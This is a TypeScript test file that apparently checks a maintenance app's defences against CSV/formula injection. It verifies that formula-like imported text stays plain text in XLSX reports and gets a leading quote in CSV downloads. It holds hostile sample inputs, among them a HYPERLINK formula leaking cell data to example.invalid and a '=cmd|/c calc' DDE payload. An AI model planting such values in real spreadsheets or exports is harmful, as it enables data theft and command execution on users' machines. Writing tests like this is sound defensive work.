// Text from imported files that a spreadsheet would run as a formula ("=HYPERLINK(…)", "+1+1", "@SUM(1)")
// stays text: in the workbooks (a string cell, t="str", with no <f> element; recalculated by LibreOffice it
// still reads as typed) and in the CSV downloads, neutralised as the OWASP "CSV Injection" guidance says
// (a leading single quote, the field quoted).
import { mkdtempSync, rmSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importRecordSchema } from '#shared/schemas/imports.ts';
import { writeReport } from '#server/reports/index.ts';
import { createTestApp, type TestApp } from '../../setup/app.ts';
import { cellElement, cellText, openWorkbook, recalculate, sheetXml, soffice } from '../../setup/spreadsheet.ts';
import { importText } from '../importers/helpers.ts';
import { SITE, seedOpsPlant } from '../../fixtures/ops-plant.ts';

const hostile = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open me")', '+1+1', '@SUM(1)', '-2+3'];
const header = 'wo_number,asset,type,priority,status,failure_code,description,reported_at,started_at,completed_at,out_of_service_from,out_of_service_to,labour_hours,labour_cost,parts_cost,crew';
const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`;

let t: TestApp;
let dir: string;
let file: string;
let rejectsImport: number;

beforeAll(async () => {
  t = await createTestApp();
  await seedOpsPlant(t.db);
  // Four failures whose descriptions look like formulas, and two rows rejected for an unknown asset whose
  // raw text starts with "=" and "@".
  const lines = [
    header,
    ...hostile.map((d, i) => `X-${i + 1},TR1-HPP,corrective,high,closed,SEAL-LEAK,${quoted(d)},2025-01-09T0${i}:00:00Z,2025-01-09T0${i}:10:00Z,2025-01-09T0${i}:30:00Z,,,1,50,0,Crew A`),
    '=cmd|/c calc,NOPE,corrective,high,closed,SEAL-LEAK,x,2025-01-09T05:00:00Z,,,,,0,0,0,',
    '@SUM(9),NOPE,corrective,high,closed,SEAL-LEAK,x,2025-01-09T06:00:00Z,,,,,0,0,0,',
  ];
  const record = importRecordSchema.parse(await importText(t.db, 'work-orders', lines.join('\n'), { site: SITE }));
  expect(record, JSON.stringify(record.rejects)).toMatchObject({ status: 'partial', rowsRejected: 2 });
  rejectsImport = record.id!;
  dir = mkdtempSync(join(tmpdir(), 'osmia-injection-'));
  file = (await writeReport(t.db, { name: 'engineer', site: SITE, from: '2025-01-01', to: '2025-02-01' }, join(dir, 'engineer.xlsx'))).path;
});
afterAll(async () => {
  await t.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('formula-like imported text in a workbook', () => {
  it('is a string cell with no formula, holding exactly the imported characters', async () => {
    const data = await readFile(file);
    const wb = await openWorkbook(data);
    const ws = wb.getWorksheet('Failures')!;
    const { xml, sharedStrings } = await sheetXml(data, 'Failures');
    for (const text of hostile) {
      let found = 0;
      ws.eachRow((row, n) => {
        if (row.getCell(17).value !== text) return;
        found++;
        const cell = cellElement(xml, `Q${n}`)!;
        // A string cell (t="str") with its value and no <f>: nothing for a spreadsheet to run.
        expect(cell, text).toMatch(/^<c r="Q\d+"[^>]* t="str"/);
        expect(cell, text).not.toContain('<f');
        expect(cellText(cell, sharedStrings)).toBe(text);
        expect(row.getCell(17).type).toBe(3); // exceljs ValueType.String
      });
      expect(found, text).toBe(1);
    }
    // The rejected rows' raw text, on the rejects sheet, too.
    const rejects = wb.getWorksheet('Import rejects')!;
    const raw = rejects.getColumn(5).values.filter((v): v is string => typeof v === 'string');
    expect(raw.some((v) => v.startsWith('=cmd|/c calc,NOPE'))).toBe(true);
    expect(raw.some((v) => v.startsWith('@SUM(9),NOPE'))).toBe(true);
    const rejectsXml = (await sheetXml(data, 'Import rejects')).xml;
    expect(rejectsXml).not.toMatch(/<f>[^<]*(cmd|SUM\(9\))/);
  });

  it.skipIf(!soffice)('reads as the imported characters after LibreOffice recalculates the workbook', () => {
    const sheets = recalculate([file]).get(file)!;
    const descriptions = sheets.get('Failures')!.map((r) => r[16]);
    for (const text of hostile) expect(descriptions).toContain(text);
    const raw = sheets.get('Import rejects')!.map((r) => r[4]);
    expect(raw.some((v) => v?.startsWith('=cmd|/c calc,NOPE'))).toBe(true);
  });
});

describe('formula-like imported text in a CSV download', () => {
  it('goes out of rejects.csv with a leading single quote, quoted', async () => {
    const res = await request(t.app).get(`/api/imports/${rejectsImport}/rejects.csv`).set('Cookie', t.cookies.engineer);
    expect(res.status).toBe(200);
    const lines = res.text.split('\r\n');
    expect(lines[0]).toBe('line,reason,row');
    expect(lines.find((l) => l.startsWith('6,'))).toMatch(/,"'=cmd\|\/c calc,NOPE,corrective/);
    expect(lines.find((l) => l.startsWith('7,'))).toMatch(/,"'@SUM\(9\),NOPE,corrective/);
    // No field starts with a formula character unprefixed.
    for (const line of lines.slice(1).filter(Boolean)) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
  });
});
